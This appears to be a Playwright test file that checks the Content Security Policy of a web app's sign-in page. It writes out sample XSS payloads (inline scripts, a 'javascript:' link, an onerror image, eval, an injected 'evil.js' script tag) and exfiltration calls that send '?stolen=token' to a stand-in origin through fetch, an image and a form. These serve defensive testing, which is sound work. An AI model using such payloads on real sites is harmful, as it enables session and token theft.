import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/roost.ts';
import { withConfig } from './fixtures/with-config.ts';

/** URLs received by a server whose origin no policy allows. */
const arrived: string[] = [];
const stranger = createServer(({ url = '' }, response) => {
  arrived.push(url);
  response.end();
});
const unknownOrigin = () => `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;

test.beforeAll(() => once(stranger.listen(0, '127.0.0.1'), 'listening'));
test.beforeEach(() => void arrived.splice(0));
test.afterAll(() => stranger.close());

/** Texts in console messages and errors with which Chromium and Firefox report a violation. */
const violations = ['ontent Security Policy', 'Trusted', 'page’s settings blocked', 'blocked by CSP'];
/** Firefox throws this code without a message for a blocked form. */
const formRefused = '0x805a0061';

/** `stoppedBy` matches several directives, because each browser checks another one first. */
type Attempt = { what: string; stoppedBy: RegExp; make: (unknown: string) => void };

/** Attacks of an injected script, and the directive that blocks each. */
const attempts: Attempt[] = [
  {
    what: 'a script with inline text',
    stoppedBy: /^require-trusted-types-for$/,
    make: () => {
      document.createElement('script').textContent = 'window.broken = true';
    },
  },
  {
    what: 'a link with a script',
    stoppedBy: /^(script-src-elem|require-trusted-types-for)$/,
    make: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.broken = true';
      document.body.append(link);
      link.click();
    },
  },
  {
    what: 'HTML inserted into the page',
    stoppedBy: /^require-trusted-types-for$/,
    make: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.broken = true">');
    },
  },
  {
    what: 'eval',
    stoppedBy: /^require-trusted-types-for$/,
    // In a task of the page: code that the debugger runs is allowed to evaluate strings.
    make: () => {
      // oxlint-disable-next-line no-eval -- that it cannot is what is tested
      setTimeout(() => eval('window.broken = true'));
    },
  },
  {
    what: 'a call to an unknown origin',
    stoppedBy: /^connect-src$/,
    make: (unknown) => {
      fetch(`${unknown}/collect?stolen=token`).catch(() => undefined);
    },
  },
  {
    what: 'a picture of an unknown origin',
    stoppedBy: /^img-src$/,
    make: (unknown) => {
      new Image().src = `${unknown}/pixel.png?stolen=token`;
    },
  },
  {
    what: 'a frame of an unknown origin',
    stoppedBy: /^frame-src$/,
    make: (unknown) => {
      const frame = document.createElement('iframe');
      frame.src = unknown;
      document.body.append(frame);
    },
  },
  {
    what: 'a form to an unknown origin',
    stoppedBy: /^form-action$/,
    make: (unknown) => {
      const form = document.createElement('form');
      form.action = unknown;
      document.body.append(form);
      form.submit();
    },
  },
];

for (const { what, stoppedBy, make } of attempts) {
  test(`the policy stops ${what}`, async ({ page, allowMessages }) => {
    allowMessages(...violations, 'EvalError', ...(what === 'eval' ? ['Unhandled error in host'] : []));
    await watch(page);
    await page.goto('/auth/sign-in');
    await expect(page.getByRole('heading', { name: 'Sign in to Roost' })).toBeVisible();
    await page.evaluate(make, unknownOrigin()).catch((thrown: unknown) => {
      expect([...violations, formRefused].filter((words) => String(thrown).includes(words))).not.toEqual([]);
    });
    await expectStopped(page, stoppedBy);
    expect(arrived).toEqual([]);
  });
}

for (const { what, tagOf } of [
  { what: 'an inline script', tagOf: () => '<script>window.broken = true</script>' },
  { what: 'a script of an unknown origin', tagOf: () => `<script src="${unknownOrigin()}/evil.js"></script>` },
]) {
  test(`the policy stops ${what} that was injected into the document in transit`, async ({ page, allowMessages }) => {
    allowMessages(...violations, 'Integrity');
    await watch(page);
    await page.route('**/auth/sign-in', async (route) => {
      const tag = tagOf();
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', `${tag}</body>`);
      expect(body).toContain(tag);
      await route.fulfill({ response, body });
    });
    await page.goto('/auth/sign-in');
    await expect(page.getByRole('heading', { name: 'Sign in to Roost' })).toBeVisible();
    await expectStopped(page, /^script-src-elem$/);
    expect(arrived).toEqual([]);
  });
}

test('the policy stops a logo of an origin that is not configured', async ({ page, allowMessages }) => {
  allowMessages(...violations);
  await watch(page);
  await withConfig(page, { brand: { name: 'Roost', logo: `${unknownOrigin()}/logo.svg` }, imageOrigins: [] });
  await page.goto('/auth/sign-in');
  await expectStopped(page, /^img-src$/);
  expect(arrived).toEqual([]);
});

/** Records the policy violations of the page. */
const watch = async (page: Page): Promise<void> => {
  await page.addInitScript(() => {
    const violatedDirectives: string[] = [];
    Object.assign(window, { violatedDirectives });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violatedDirectives.push(effectiveDirective),
    );
  });
};

const expectStopped = async (page: Page, directive: RegExp) => {
  const violatedDirectives = () =>
    page.evaluate(() => (window as unknown as { violatedDirectives: string[] }).violatedDirectives);
  await expect.poll(async () => (await violatedDirectives()).some((name) => directive.test(name))).toBe(true);
  expect(await page.evaluate(() => 'broken' in window)).toBe(false);
};
